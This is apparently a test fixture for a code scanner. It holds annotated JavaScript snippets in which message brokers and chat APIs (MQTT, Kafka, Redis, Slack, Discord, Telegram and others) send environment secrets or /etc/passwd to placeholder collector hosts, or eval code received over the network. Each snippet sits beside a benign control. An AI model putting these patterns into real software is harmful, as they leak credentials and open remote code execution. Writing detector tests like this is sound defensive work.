// Message brokers and chat services.
const amqp = require("amqplib");
const discord = require("discord.js");
const kafkajs = require("kafkajs");
const mqtt = require("mqtt");
const nats = require("nats");
const redis = require("redis");
const slack = require("@slack/web-api");
const slackHook = require("@slack/webhook");
const TelegramBot = require("node-telegram-bot-api");
const twilio = require("twilio");
const webpush = require("web-push");

function withMqtt() {
  const client = mqtt.connect("mqtt://mq.collector.example"); //~ capability(NETWORK), endpoint("mqtt://mq.collector.example")
  client.publish("t", process.env.T); //~ source(ENVIRONMENT) f1, sink(egress.message) f1, finding(traced) f1
  client.on("message", (topic, message) => eval(message)); //~ source(NETWORK) f2, sink(exec.code) f2, finding(traced) f2
  client.publish("t", "ping"); //~ ok
  client.on("connect", () => eval("1")); //~ ok
  mqtt.connect("mqtt://mq.collector.example"); //~ ok
}

async function withKafka() {
  const kafka = new kafkajs.Kafka({ brokers: ["kafka.collector.example"] }); //~ capability(NETWORK), endpoint("kafka.collector.example")
  await kafka.producer().send({ topic: "t", messages: [{ value: process.env.T }] }); //~ source(ENVIRONMENT) f3, sink(egress.message) f3, finding(traced) f3
  await kafka.producer().send({ topic: "t", messages: [{ value: "ping" }] }); //~ ok
  await kafka.consumer().run({ eachMessage: async ({ message }) => eval(message.value) }); //~ source(NETWORK) f4, sink(exec.code) f4, finding(traced) f4
  await kafka.consumer().run({ eachMessage: async () => eval("1") }); //~ ok
  new kafkajs.Kafka({}); //~ ok
}

async function withAmqp() {
  const connection = await amqp.connect("amqp://amqp.collector.example"); //~ capability(NETWORK), endpoint("amqp://amqp.collector.example")
  const channel = await connection.createChannel();
  channel.sendToQueue("q", process.env.T); //~ source(ENVIRONMENT) f5, sink(egress.message) f5, finding(traced) f5
  channel.consume("q", (message) => eval(message.content)); //~ source(NETWORK) f6, sink(exec.code) f6, finding(traced) f6
  channel.sendToQueue("q", "ping"); //~ ok
  channel.consume("q", () => eval("1")); //~ ok
  (await amqp.connect("amqp://amqp.collector.example")).createChannel(); //~ ok
}

async function withRedis() {
  const client = redis.createClient({ url: "redis://redis.collector.example" }); //~ capability(NETWORK), endpoint("redis://redis.collector.example")
  await client.set("k", process.env.T); //~ source(ENVIRONMENT) f7, sink(egress.message) f7, finding(traced) f7
  eval(await client.get("k")); //~ source(NETWORK) f8, sink(exec.code) f8, finding(traced) f8
  await client.subscribe("c", (message) => eval(message)); //~ source(NETWORK) f9, sink(exec.code) f9, finding(traced) f9
  client.on("message", (channel, message) => eval(message)); //~ source(NETWORK) f10, sink(exec.code) f10, finding(traced) f10
  await client.set("k", "v"); //~ ok
  await client.set("k", { none: (await client.get("k")) === null }); //~ ok
  await client.subscribe("c", () => eval("1")); //~ ok
  client.on("error", () => eval("1")); //~ ok
  redis.createClient({}); //~ ok
}

async function withNats() {
  const connection = await nats.connect({}); //~ capability(NETWORK)
  connection.publish("s", process.env.T); //~ source(ENVIRONMENT) f11, sink(egress.message) f11, finding(traced) f11
  connection.publish("s", "ping"); //~ ok
  await nats.connect({}); //~ ok
}

async function withSlack() {
  const client = new slack.WebClient("token"); //~ capability(NETWORK)
  await client.chat.postMessage({ text: process.env.T }); //~ source(ENVIRONMENT) f12, sink(egress.message) f12, finding(traced) f12
  await client.chat.postMessage({ text: "ping" }); //~ ok
  require("fs").writeFileSync("/tmp/all.txt", process.env.T); //~ source(ENVIRONMENT) fslack
  await client.files.upload({ file: "/tmp/all.txt" }); //~ sink(egress.message) fslack, finding(traced) fslack
  new slack.WebClient("token"); //~ ok
  const hook = new slackHook.IncomingWebhook("https://hooks.collector.example/x"); //~ capability(NETWORK), endpoint("https://hooks.collector.example/x")
  await hook.send({ text: process.env.T }); //~ source(ENVIRONMENT) f13, sink(egress.message) f13, finding(traced) f13
  await new slackHook.IncomingWebhook("https://hooks.collector.example/x").send("ping"); //~ ok
}

async function withDiscord() {
  const client = new discord.Client({}); //~ capability(NETWORK)
  client.on("messageCreate", (message) => { //~ source(NETWORK) f14
    message.channel.send(process.env.T); //~ source(ENVIRONMENT) f15, sink(egress.message) f15, finding(traced) f15
    eval(message.content); //~ sink(exec.code) f14, finding(traced) f14
  });
  client.on("messageCreate", (message) => message.channel.send("pong")); //~ ok
  new discord.Client({}).on("ready", () => eval("1")); //~ ok
  const hook = new discord.WebhookClient({ url: "https://discord.collector.example/x" }); //~ capability(NETWORK), endpoint("https://discord.collector.example/x")
  require("fs").writeFileSync("/tmp/some.txt", process.env.T); //~ source(ENVIRONMENT) ffiles
  hook.send({ files: ["/tmp/some.txt"] }); //~ sink(egress.message) ffiles, finding(traced) ffiles
  hook.send({ files: [new discord.AttachmentBuilder("/etc/hosts")] }); //~ source(FILE) ffiles2, sink(egress.message) ffiles2, finding(traced) ffiles2
  hook.send(new discord.AttachmentBuilder(process.env.T)); //~ source(ENVIRONMENT) f16, sink(egress.message) f16, finding(traced) f16
  new discord.WebhookClient({ url: "x" }).send(new discord.AttachmentBuilder("ping")); //~ ok
}

async function withTelegram() {
  const bot = new TelegramBot("token"); //~ capability(NETWORK)
  bot.sendMessage(1, process.env.T); //~ source(ENVIRONMENT) f17, sink(egress.message) f17, finding(traced) f17
  bot.telegram.sendMessage(1, process.env.T); //~ source(ENVIRONMENT) f18, sink(egress.message) f18, finding(traced) f18
  bot.sendDocument(1, "/etc/passwd"); //~ source(FILE) f19, sink(egress.message) f19, finding(traced) f19, capability(FILES)
  bot.onText(/run/, (context) => { //~ source(NETWORK) f20
    context.reply(process.env.T); //~ source(ENVIRONMENT) f21, sink(egress.message) f21, finding(traced) f21
    eval(context.text); //~ sink(exec.code) f20, finding(traced) f20
  });
  bot.sendMessage(1, "ping"); //~ ok
  bot.telegram.sendMessage(1, "ping"); //~ ok
  bot.sendMessage(1, bot.sendDocument === undefined); //~ ok
  bot.onText(/run/, (context) => context.reply("pong")); //~ ok
  new (require("node-telegram-bot-api"))("token").sendMessage(1, "ping"); //~ ok
}

async function withTwilio() {
  const client = twilio("id", "token"); //~ capability(NETWORK)
  await client.messages.create({ body: process.env.T }); //~ source(ENVIRONMENT) f22, sink(egress.message) f22, finding(traced) f22
  await client.messages.create({ body: "ping" }); //~ ok
  twilio("id", "token"); //~ ok
  await webpush.sendNotification(null, process.env.T); //~ source(ENVIRONMENT) f23, sink(egress.message) f23, finding(traced) f23, capability(NETWORK)
  await webpush.sendNotification(null, "ping"); //~ ok
}
